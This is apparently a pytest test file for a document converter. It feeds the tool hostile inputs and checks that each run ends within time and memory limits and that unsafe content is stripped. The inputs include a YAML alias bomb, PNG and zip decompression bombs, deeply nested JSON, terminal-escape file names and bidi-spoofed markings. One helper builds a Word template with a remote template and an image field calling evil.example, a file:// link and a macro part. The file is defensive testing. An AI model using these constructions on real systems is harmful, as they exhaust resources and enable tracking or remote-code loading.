"""Hostile input, round two (issue 14): every attack ends within a time and memory budget.

Each case builds its input here (nothing large is committed), runs the real command under
the cap from ``tests/budget.py``, and checks the outcome listed under ``[budget.NAME]`` in
``tests/hostile/EXPECTED.toml``: ``outcome = "error"`` is exit 1 with one line naming the
input and containing ``message``; ``outcome = "ok"`` is exit 0.
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import tomllib
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from .budget import run_capped

CORPUS = Path(__file__).resolve().parent / "hostile"
BUDGETS: dict[str, dict[str, Any]] = tomllib.loads(
    (CORPUS / "EXPECTED.toml").read_text(encoding="utf-8")
)["budget"]


@contextmanager
def _endless_fifo(tmp: Path) -> Iterator[Path]:
    """A FIFO with a writer that never stops, as ``<(yes)`` gives."""
    fifo = tmp / "endless.txt"
    os.mkfifo(fifo)
    writer = subprocess.Popen(
        ["sh", "-c", f"exec yes 'Endless words.' > '{fifo}'"], stderr=subprocess.DEVNULL
    )
    try:
        yield fifo
    finally:
        writer.kill()
        writer.wait()


Case = Callable[[Path], Iterator[tuple[list[str], Path]]]


@contextmanager
def _dev_zero(tmp: Path) -> Iterator[tuple[list[str], Path]]:
    yield ["inspect", "/dev/zero"], Path("/dev/zero")


@contextmanager
def _fifo(tmp: Path) -> Iterator[tuple[list[str], Path]]:
    with _endless_fifo(tmp) as fifo:
        yield ["inspect", str(fifo)], fifo


def _file(name: str, text: str, *extra: str) -> Callable[[Path], Any]:
    """A case that writes ``text`` to ``name`` and converts it (with ``extra`` options)."""

    @contextmanager
    def case(tmp: Path) -> Iterator[tuple[list[str], Path]]:
        path = tmp / name
        path.write_text(text, encoding="utf-8")
        yield ["convert", name, "-o", "out", *extra], Path(name)

    return case


def _nested_json(depth: int) -> str:
    inner: dict[str, Any] = {"type": "text", "text": "deep"}
    for _ in range(depth):
        inner = {"type": "emphasis", "content": [inner]}
    blocks = [{"type": "paragraph", "content": [inner]}]
    return json.dumps({"briefconv-model": 2, "meta": {"title": "Deep"}, "blocks": blocks})


def _alias_bomb() -> str:
    """YAML front matter of ~370 bytes that the safe loader expands to 9**9 strings."""
    lines = ["---", "a: &a [" + ",".join(['"lol"'] * 9) + "]"]
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    return "\n".join([*lines, "title: Bomb", "---", "", "Body.", ""])


def _png(width: int, height: int, rows: int) -> bytes:
    """A PNG claiming ``width``×``height`` pixels whose data holds ``rows`` blank rows."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * (width + 1) * rows)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _with_image(name: str, data: bytes | None, fmt: str = "md") -> Callable[[Path], Any]:
    """A Markdown article (or model JSON) showing image ``name`` with ``data`` in it;
    ``None`` makes the image a FIFO nobody writes to."""

    @contextmanager
    def case(tmp: Path) -> Iterator[tuple[list[str], Path]]:
        if data is None:
            os.mkfifo(tmp / name)
        else:
            (tmp / name).write_bytes(data)
        if fmt == "md":
            article = f"---\ntitle: Pictures\n---\n\n![The picture]({name})\n\nBody text.\n"
            (tmp / "article.md").write_text(article, encoding="utf-8")
            yield ["convert", "article.md", "-o", "out"], Path("article.md")
        else:
            figure = {"type": "figure", "src": name, "alt": "The picture", "path": name}
            model = {"briefconv-model": 2, "meta": {"title": "Pictures"}, "blocks": [figure]}
            (tmp / "article.json").write_text(json.dumps(model), encoding="utf-8")
            yield ["convert", "article.json", "-o", "out"], Path("article.json")

    return case


@contextmanager
def _json_figure_outside(tmp: Path) -> Iterator[tuple[list[str], Path]]:
    """Item 7: a model whose figure path names a file outside its folder."""
    (tmp / "secret").mkdir()
    (tmp / "secret" / "private.png").write_bytes(_png(4, 4, 4))
    (tmp / "inbox").mkdir()
    figure = {"type": "figure", "src": "x.png", "alt": "A", "path": str(tmp / "secret/private.png")}
    model = {"briefconv-model": 2, "meta": {"title": "T"}, "blocks": [figure]}
    (tmp / "inbox" / "m.json").write_text(json.dumps(model), encoding="utf-8")
    yield ["convert", "inbox/m.json", "-o", "out"], Path("inbox/m.json")


def _pack(*options: str) -> Callable[[Path], Any]:
    """A pack of one short article with the given pack options."""

    @contextmanager
    def case(tmp: Path) -> Iterator[tuple[list[str], Path]]:
        (tmp / "short.txt").write_text("Short\n\nBody text of the article.\n", "utf-8")
        yield ["pack", "short.txt", "-o", "pack", *options], Path("short.txt")

    return case


@contextmanager
def _long_manifest(tmp: Path) -> Iterator[tuple[list[str], Path]]:
    """A manifest with a 96,000-character title and a 280,000-character marking."""
    (tmp / "short.txt").write_text("Short\n\nBody text of the article.\n", "utf-8")
    (tmp / "pack.toml").write_text(
        f'title = "{"Title " * 16_000}"\nclassification = "{"SECRET " * 40_000}"\n'
        '[[articles]]\npath = "short.txt"\n',
        encoding="utf-8",
    )
    yield ["pack", "pack.toml", "-o", "pack"], Path("pack.toml")


def _letters(count: int) -> str:
    """``count`` letters that no dictionary knows, as one token."""
    return "".join("abcdefghijklmnopqrstuvwxyz"[(i * 7 + i // 26) % 26] for i in range(count))


#: Each case: a context manager giving the command's arguments and the input it names.
CASES: dict[str, Callable[[Path], Any]] = {
    "dev-zero": _dev_zero,
    # Item 1: 370 bytes of YAML aliases took 10 s and 1.4 GB.
    "yaml-alias-bomb": _file("bomb.md", _alias_bomb()),
    "endless-fifo": _fifo,
    # Item 14: errors the libraries raise on odd input name the file.
    "yaml-impossible-date": _file("bad-date.md", "---\ntitle: T\ndate: 2026-02-30\n---\n\nBody.\n"),
    "json-5000-digits": _file(
        "digits.json",
        '{"briefconv-model": 2, "meta": {"title": "x"}, "timestamp": '
        + "9" * 5000
        + ', "blocks": []}',
    ),
    "json-nested-400": _file("deep.json", _nested_json(400)),
    "encoding-base64": _file("plain.txt", "Body text.\n", "--encoding", "base64"),
    # Item 5: EPUB time grew as the square of the headings; deep emphasis overflowed.
    "epub-50000-headings": _file(
        "headings.md",
        "# Many\n\n" + "".join(f"## Heading {i}\n\nText {i}.\n\n" for i in range(50_000)),
        "-t",
        "epub",
    ),
    "emphasis-300-deep": _file(
        "deep.md",
        "Deep\n\n" + "*a _b " * 150 + "x" + " c_ d*" * 150 + "\n",
    ),
    # Item 2: emphasis in the text reader was quadratic (160 KB of "**a ": 110 s).
    "text-emphasis-160kb": _file("emphasis.txt", "Emphasis\n\n" + "**a " * 40_000 + "end.\n"),
    "text-underscores-160kb": _file("under.txt", "Under\n\n" + "_a " * 53_000 + "end.\n"),
    # Item 3: hyphenating one 20,000-letter token took over 120 s.
    "pdf-token-20000": _file("token.txt", f"Token\n\nBefore {_letters(20_000)} after.\n"),
    # Item 4: fitting running heads re-measured once per removed character.
    "pack-17000-title": _pack("--title", "Title " * 2900),
    "pack-42000-classification": _pack("--title", "T", "--classification", "SECRET " * 6000),
    "pack-100000-title-manifest": _long_manifest,
    # Item 13: images are decided once, for every format alike.
    "png-bomb-30000": _with_image("bomb.png", _png(30_000, 30_000, 50)),
    "png-truncated": _with_image("half.png", _png(40, 40, 40)[:-30]),
    "jpeg-fake-60-bytes": _with_image("fake.jpg", b"\xff\xd8\xff\xe0" + bytes(range(56))),
    # Items 6 and 7: a FIFO named as an image hung the reader; JSON paths were trusted.
    "fifo-image": _with_image("pipe.png", None),
    "fifo-image-json": _with_image("pipe.png", None, fmt="json"),
    "json-figure-outside": _json_figure_outside,
}


def test_every_budget_case_is_listed() -> None:
    assert set(CASES) == set(BUDGETS)


@pytest.mark.parametrize("name", sorted(CASES))
def test_attack_ends_within_its_budget(name: str, tmp_path: Path) -> None:
    expected = BUDGETS[name]
    with CASES[name](tmp_path) as (args, named):
        outcome = run_capped(
            [*args], seconds=expected["seconds"], memory_mib=expected["memory"], cwd=tmp_path
        )
    assert outcome.over is None, f"{name}: over its {outcome.over} budget\n{outcome.stderr}"
    assert "Traceback" not in outcome.stderr
    if expected["outcome"] == "error":
        assert outcome.returncode == 1, outcome.stderr
        lines = outcome.lines()
        assert len(lines) == 1, outcome.stderr
        assert lines[0].startswith(f"briefconv: error: {named}"), lines[0]
        assert expected["message"] in lines[0]
    else:
        assert outcome.returncode == 0, outcome.stderr
        if "warning" in expected:
            assert expected["warning"] in outcome.stderr, outcome.stderr


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_batch_goes_on_past_any_error_and_ends_with_its_summary(
    jobs: str, tmp_path: Path
) -> None:
    """Item 14: with --jobs 1 the inputs after an odd one used to be skipped, unreported."""
    (tmp_path / "bad-date.md").write_text("---\ndate: 2026-02-30\n---\n\nBody.\n", "utf-8")
    (tmp_path / "good.txt").write_text("Good\n\nBody text of a good article.\n", "utf-8")
    outcome = run_capped(
        ["convert", "bad-date.md", "good.txt", "-t", "epub", "-o", "out", "--jobs", jobs],
        seconds=60,
        memory_mib=1024,
        cwd=tmp_path,
    )
    assert outcome.returncode == 1
    assert (tmp_path / "out" / "good.epub").is_file()
    assert outcome.lines()[-1] == "briefconv: error: 1 of 2 inputs failed: bad-date.md"
    assert "bad-date.md: cannot read: day is out of range for month" in outcome.stderr


def test_bidi_controls_leave_markings_and_are_reported(tmp_path: Path) -> None:
    """Item 16: a marking "‮LAICIFFO‬" displayed as "OFFICIAL" in Word."""
    (tmp_path / "a.txt").write_text("Title\n\nBody text of the article.\n", "utf-8")
    outcome = run_capped(
        ["pack", "a.txt", "--title", "Brief", "--classification", "\u202eLAICIFFO\u202c",
         "-t", "docx", "-o", "pack"],
        seconds=60,
        memory_mib=1024,
        cwd=tmp_path,
    )  # fmt: skip
    assert outcome.returncode == 0, outcome.stderr
    assert "U+202C, U+202E" in outcome.stderr
    with zipfile.ZipFile(tmp_path / "pack.docx") as docx:
        xml = "".join(docx.read(n).decode() for n in docx.namelist() if n.endswith(".xml"))
    assert "LAICIFFO" in xml
    assert "\u202e" not in xml and "\u202c" not in xml


def test_file_names_never_reach_the_terminal_raw(tmp_path: Path) -> None:
    """Item 16: an escape sequence in a file name could retitle or clear the terminal."""
    name = "a\x1b]0;pwned\x07.txt"
    (tmp_path / name).write_bytes(b"Not text: \xfa\xfb\n")
    outcome = run_capped(["convert", name, "-o", "out"], seconds=30, memory_mib=512, cwd=tmp_path)
    assert outcome.returncode == 1
    assert "\x1b" not in outcome.stderr and "\x07" not in outcome.stderr
    assert "a\\x1b]0;pwned\\x07.txt" in outcome.stderr


def test_a_cmyk_jpeg_is_shown_in_every_format(tmp_path: Path) -> None:
    """Item 13: a CMYK JPEG (Adobe segment first) was dropped from the DOCX only."""
    from PIL import Image

    Image.new("CMYK", (120, 60), (0, 128, 255, 0)).save(tmp_path / "cmyk.jpg")
    text = "---\ntitle: Print\n---\n\n![A press photo](cmyk.jpg)\n\nBody text.\n"
    (tmp_path / "print.md").write_text(text, encoding="utf-8")
    outcome = run_capped(
        ["convert", "print.md", "-o", "out"], seconds=60, memory_mib=1024, cwd=tmp_path
    )
    assert outcome.returncode == 0 and outcome.stderr == "", outcome.stderr
    with zipfile.ZipFile(tmp_path / "out" / "print.docx") as docx:
        assert [n for n in docx.namelist() if n.startswith("word/media/")]
    with zipfile.ZipFile(tmp_path / "out" / "print.epub") as epub:
        assert [n for n in epub.namelist() if n.endswith(".jpg")]
    assert b"/Subtype /Image" in (tmp_path / "out" / "print.pdf").read_bytes()


def _hostile_template(path: Path) -> None:
    """A Word template carrying everything item 9 found shipped into every handout."""
    import docx

    base = io.BytesIO()
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Template header"
    document.save(base)
    with zipfile.ZipFile(base) as src:
        members = {name: src.read(name) for name in src.namelist()}
    r_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    settings = members["word/settings.xml"].decode()
    members["word/settings.xml"] = settings.replace(
        "<w:zoom ", f'<w:attachedTemplate xmlns:r="{r_ns}" r:id="rIdEvil"/><w:zoom ', 1
    ).encode()
    members["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdEvil" Type="{r_ns}/attachedTemplate" '
        'Target="http://evil.example/payload.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    header = next(n for n in members if n.startswith("word/header"))
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' INCLUDEPICTURE "http://evil.example/track.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        f'<w:p><w:hyperlink xmlns:r="{r_ns}" r:id="rIdShare"><w:r><w:t>share</w:t></w:r>'
        "</w:hyperlink></w:p></w:hdr>"
    )
    members[header] = members[header].decode().replace("</w:hdr>", field).encode()
    rels = f"word/_rels/{header.split('/')[-1]}.rels"
    members[rels] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdShare" Type="{r_ns}/hyperlink" '
        'Target="file:////host/share/secret.docx" TargetMode="External"/></Relationships>'
    ).encode()
    doc_rels = members["word/_rels/document.xml.rels"].decode()
    members["word/_rels/document.xml.rels"] = doc_rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>',
    ).encode()
    members["word/vbaProject.bin"] = b"Attribute VB_Name = evil macro"
    types = members["[Content_Types].xml"].decode()
    members["[Content_Types].xml"] = types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    ).encode()
    with zipfile.ZipFile(path, "w") as out:
        for name, data in members.items():
            out.writestr(name, data)


def test_a_template_cannot_reach_outside_the_handout(tmp_path: Path) -> None:
    """Item 9: a remote attached template, fetching fields, a file:// share link and macros
    went into every handout built with the template."""
    _hostile_template(tmp_path / "house.docx")
    (tmp_path / "house.toml").write_text(
        'based_on = "default"\n[docx]\ntemplate = "house.docx"\n', encoding="utf-8"
    )
    (tmp_path / "a.txt").write_text("Title\n\nBody text of the article.\n", encoding="utf-8")
    outcome = run_capped(
        ["convert", "a.txt", "-t", "docx", "--style", "house.toml", "-o", "out"],
        seconds=60,
        memory_mib=1024,
        cwd=tmp_path,
    )
    assert outcome.returncode == 0, outcome.stderr
    assert "removed what would reach outside the document" in outcome.stderr
    with zipfile.ZipFile(tmp_path / "out" / "a.docx") as docx:
        everything = b"".join(docx.read(n) for n in docx.namelist())
        names = docx.namelist()
    for needle in (b"evil.example", b"file:////", b"attachedTemplate", b"INCLUDEPICTURE"):
        assert needle not in everything, needle
    assert not [n for n in names if "vba" in n.lower()]
    assert b"Template header" in everything  # the template's own header is still used
    assert b"share" in everything  # the link's text stays


def test_a_template_zip_bomb_is_refused(tmp_path: Path) -> None:
    """Item 9: a template unpacking to gigabytes took 3.7 GB of memory."""
    base = io.BytesIO()
    import docx

    docx.Document().save(base)
    with (
        zipfile.ZipFile(base) as src,
        zipfile.ZipFile(tmp_path / "bomb.docx", "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for name in src.namelist():
            out.writestr(name, src.read(name))
        out.writestr("word/media/zeros.bin", b"\0" * (300 * 2**20))
    (tmp_path / "bomb.toml").write_text(
        'based_on = "default"\n[docx]\ntemplate = "bomb.docx"\n', encoding="utf-8"
    )
    (tmp_path / "a.txt").write_text("Title\n\nBody text.\n", encoding="utf-8")
    outcome = run_capped(
        ["convert", "a.txt", "-t", "docx", "--style", "bomb.toml", "-o", "out"],
        seconds=60,
        memory_mib=768,
        cwd=tmp_path,
    )
    assert outcome.returncode == 1
    assert "unpacks to" in outcome.stderr and "MiB" in outcome.stderr
    assert len(outcome.lines()) == 1, outcome.stderr
